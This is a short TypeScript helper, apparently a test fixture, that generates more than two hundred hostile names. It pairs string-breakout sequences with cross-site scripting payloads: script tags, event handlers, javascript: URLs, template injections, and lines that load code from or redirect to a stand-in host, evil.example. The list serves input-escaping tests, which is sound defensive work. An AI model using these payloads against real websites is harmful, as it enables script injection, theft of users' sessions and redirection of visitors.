/** Names that try to run: what breaks out, what runs, and how it is disguised. */

const BREAKOUTS = ["", '"', "'", '">', "'>", "-->", "</title>", "</td></table>", "`", "]]>", "\u202e", "\\"];
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  " onmouseover=alert(1) x=",
  " autofocus onfocus=alert(1) ",
  "javascript:alert(1)",
  "<style>@import '//evil.example'</style>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<form action=//evil.example><button>",
  "<math><mtext><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "{n, plural, one {x} other {#}}",
  "${alert(1)}{{7*7}}",
];

/** More than two hundred, each different. */
export function hostile(): string[] {
  return BREAKOUTS.flatMap((breakout) => PAYLOADS.map((payload) => `/${breakout}${payload}`));
}
